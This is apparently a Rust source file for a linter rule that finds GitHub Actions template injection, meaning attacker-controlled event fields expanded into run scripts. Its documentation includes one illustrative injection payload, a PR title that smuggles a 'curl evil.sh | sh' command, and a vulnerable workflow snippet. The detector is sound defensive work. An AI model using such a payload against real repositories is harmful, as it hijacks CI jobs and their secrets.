//! `template-injection`: attacker-controllable contexts expanded into code.

use std::sync::LazyLock;

use crate::finding::{Location, Severity};
use crate::model::Step;
use crate::model::expr;
use crate::rules::{Cx, Rule, RuleMeta, StepHost};

pub struct TemplateInjection;

crate::rule_meta!(
    TemplateInjection,
    "template-injection",
    Severity::High,
    "attacker-controllable context expanded into a script",
    r#"## What it does
Finds `${{ … }}` expressions that read a context an outside attacker controls (issue, pull
request, comment and review titles and bodies, head branch names and labels, commit messages
and authors, `github.head_ref`, …) expanded into a `run:` script or into the `script:` of
`actions/github-script`.

## Why is this bad
GitHub substitutes the expression into the script text *before* the shell or Node.js runs it.
A pull request titled `a"; curl evil.sh | sh; echo "` becomes code running with the job's
token, secrets and cloud credentials. On `pull_request_target`, `issue_comment` or
`workflow_run` triggers that is a write token on the base repository.

## Example
```yaml
      - run: echo "Title: ${{ github.event.pull_request.title }}"
```

## Use instead
Pass the value through an environment variable, which the shell treats as data:
```yaml
      - run: echo "Title: $TITLE"
        env:
          TITLE: ${{ github.event.pull_request.title }}
```

## References
- https://securitylab.github.com/resources/github-actions-untrusted-input/
- https://docs.github.com/en/actions/security-for-github-actions/security-guides/security-hardening-for-github-actions#understanding-the-risk-of-script-injections
- zizmor `template-injection`: https://docs.zizmor.sh/audits/#template-injection
"#
);

fn table(text: &'static str) -> Vec<Vec<&'static str>> {
    text.lines()
        .map(str::trim)
        .filter(|line| !line.is_empty() && !line.starts_with('#'))
        .map(|line| line.split('.').collect())
        .collect()
}

/// Contexts an outside attacker controls, as data beside the rule pack.
static UNTRUSTED: LazyLock<Vec<Vec<&'static str>>> = LazyLock::new(|| {
    table(include_str!(
        "../../../rules/workflow/untrusted-contexts.txt"
    ))
});

/// Contexts that cannot carry shell syntax.
static FIXED: LazyLock<Vec<Vec<&'static str>>> =
    LazyLock::new(|| table(include_str!("../../../rules/workflow/fixed-contexts.txt")));

/// Whether a normalised context path (`github.event.commits.*.message`) is attacker-controlled.
pub fn is_untrusted(context: &str) -> bool {
    let parts: Vec<&str> = context.split('.').collect();
    UNTRUSTED
        .iter()
        .any(|pattern| matches_pattern(pattern, &parts))
}

/// How dangerous expanding `context` into code is: high when outsiders choose its text,
/// medium when whoever triggers the workflow may, `None` when its shape is fixed.
pub fn danger(context: &str) -> Option<Severity> {
    let parts: Vec<&str> = context.split('.').collect();
    if UNTRUSTED
        .iter()
        .any(|pattern| matches_pattern(pattern, &parts))
    {
        return Some(Severity::High);
    }
    if FIXED.iter().any(|pattern| matches_pattern(pattern, &parts)) {
        return None;
    }
    let free_text = matches!(parts.first(), Some(&"github") | Some(&"inputs")) && parts.len() > 1;
    free_text.then_some(Severity::Medium)
}

/// Matches a path against a pattern: `*` is one segment, `**` any run of one or more.
fn matches_pattern(pattern: &[&str], parts: &[&str]) -> bool {
    match (pattern.split_first(), parts.split_first()) {
        (None, None) => true,
        (Some((&"**", rest)), Some(_)) => {
            (1..=parts.len()).any(|n| matches_pattern(rest, &parts[n..]))
        }
        (Some((segment, rest)), Some((part, tail))) => {
            (*segment == "*" || *part == "*" || segment.eq_ignore_ascii_case(part))
                && matches_pattern(rest, tail)
        }
        _ => false,
    }
}

impl Rule for TemplateInjection {
    fn meta(&self) -> &'static RuleMeta {
        Self::META
    }

    fn check_step(&self, cx: &mut Cx, host: &StepHost, step: &Step) {
        let (route, code, sink_name) = if let Some(code) = step.run() {
            (step.route.key("run"), code, "a shell script")
        } else if step.uses_action("actions/github-script") {
            let Some(code) = step.with("script").and_then(|n| n.as_str()) else {
                return;
            };
            (step.with_route("script"), code, "github-script code")
        } else {
            return;
        };
        // Read only when an expression names a context: most `run:` steps have none, and
        // reading what earlier steps carry for each of them made long jobs quadratic.
        let reaching = std::cell::OnceCell::new();
        for expression in expr::expressions(code) {
            let worst = expr::contexts(expression.inner)
                .into_iter()
                .filter_map(|context| {
                    let carried = reaching.get_or_init(|| Carried::reaching(host, step));
                    if let Some(origin) = carried.origin(&context) {
                        let message = format!(
                            "`{context}` carries the attacker-controllable `{origin}` and is expanded into {sink_name}"
                        );
                        return Some((Severity::High, message));
                    }
                    let severity = danger(&context)?;
                    let message = match severity {
                        Severity::High => format!(
                            "`{context}` is attacker-controllable and is expanded into {sink_name}"
                        ),
                        _ => format!(
                            "`{context}` can be chosen by whoever triggers the workflow and is expanded into {sink_name}"
                        ),
                    };
                    Some((severity, message))
                })
                .max_by_key(|(severity, _)| *severity);
            let Some((severity, message)) = worst else {
                continue;
            };
            cx.report(
                Self::META
                    .finding(
                        message,
                        Location::fragment(route.clone(), expression.text)
                            .labelled("expanded here before the script runs"),
                    )
                    .severity(severity),
            );
        }
    }
}

/// Attacker-controlled values carried one hop into other contexts: `env.X` set from one (at
/// workflow, job or step level) and `steps.ID.outputs.NAME` written to `$GITHUB_OUTPUT` from
/// one by an earlier step. Expanding those is the same injection, one step removed.
struct Carried {
    /// Context (`env.TITLE`, `steps.meta.outputs.title`) → the untrusted context it carries.
    origins: Vec<(String, String)>,
}

impl Carried {
    fn reaching(host: &StepHost, step: &Step) -> Self {
        let mut origins = Vec::new();
        let mut env_blocks = Vec::new();
        let steps = match host {
            StepHost::Job(workflow, job) => {
                env_blocks.extend(workflow.root.get("env"));
                env_blocks.extend(job.node.get("env"));
                job.steps()
            }
            StepHost::Action(action) => action.steps(),
        };
        let earlier_steps: Vec<Step> = steps
            .into_iter()
            .take_while(|s| s.route != step.route)
            .collect();
        env_blocks.extend(step.node.get("env"));
        for env in env_blocks {
            for (name, value) in env.entries() {
                if let Some(origin) = value.as_str().and_then(untrusted_in) {
                    origins.push((format!("env.{name}"), origin));
                }
            }
        }
        for earlier in &earlier_steps {
            let (Some(id), Some(run)) = (earlier.node.get_str("id"), earlier.run()) else {
                continue;
            };
            let step_env: Vec<(String, String)> = earlier
                .node
                .get("env")
                .map(|env| {
                    env.entries()
                        .filter_map(|(name, value)| {
                            Some((name.to_string(), value.as_str().and_then(untrusted_in)?))
                        })
                        .collect()
                })
                .unwrap_or_default();
            for line in run.lines().filter(|l| l.contains("GITHUB_OUTPUT")) {
                let Some((name, value)) = output_assignment(line) else {
                    continue;
                };
                let origin = untrusted_in(value).or_else(|| {
                    step_env
                        .iter()
                        .find(|(var, _)| {
                            value.contains(&format!("${var}"))
                                || value.contains(&format!("${{{var}}}"))
                        })
                        .map(|(_, origin)| origin.clone())
                });
                if let Some(origin) = origin {
                    origins.push((format!("steps.{id}.outputs.{name}"), origin));
                }
            }
        }
        Self { origins }
    }

    fn origin(&self, context: &str) -> Option<&str> {
        self.origins
            .iter()
            .find(|(carrier, _)| carrier.eq_ignore_ascii_case(context))
            .map(|(_, origin)| origin.as_str())
    }
}

/// The first attacker-controlled context expanded in a value.
fn untrusted_in(text: &str) -> Option<String> {
    expr::expressions(text)
        .into_iter()
        .flat_map(|e| expr::contexts(e.inner))
        .find(|c| danger(c) == Some(Severity::High))
}

/// `echo "name=value" >> "$GITHUB_OUTPUT"` → `("name", "value")`.
fn output_assignment(line: &str) -> Option<(&str, &str)> {
    let mut text = line.split(">>").next()?.trim();
    for command in ["echo", "printf"] {
        if let Some(rest) = text.strip_prefix(command) {
            text = rest.trim_start();
        }
    }
    // Flags such as `-e` come before the text.
    while text.starts_with('-') {
        text = text
            .split_once(' ')
            .map_or("", |(_, rest)| rest)
            .trim_start();
    }
    let text = text.trim_start_matches(['"', '\'']);
    let (name, value) = text.split_once('=')?;
    let name = name.trim();
    (!name.is_empty()
        && name
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || c == '_' || c == '-'))
    .then_some((name, value))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn patterns() {
        assert!(is_untrusted("github.event.issue.title"));
        assert!(is_untrusted("github.event.commits.*.message"));
        assert_eq!(danger("github.event.inputs.name"), Some(Severity::Medium));
        assert!(!is_untrusted("github.event.issue.number"));
        assert!(!is_untrusted("github.event.pull_request.head.sha"));
        assert!(!is_untrusted("github.event.inputs"));
        assert_eq!(danger("github.event.pull_request.number"), None);
        assert_eq!(danger("github.event.pull_request.head.sha"), None);
        assert_eq!(danger("github.ref_name"), Some(Severity::Medium));
        assert_eq!(danger("steps.x.outputs.y"), None);
        assert_eq!(danger("github.event.comment.body"), Some(Severity::High));
        assert_eq!(
            output_assignment(
                r#"echo "title=${{ github.event.issue.title }}" >> "$GITHUB_OUTPUT""#
            ),
            Some(("title", r#"${{ github.event.issue.title }}""#))
        );
    }
}
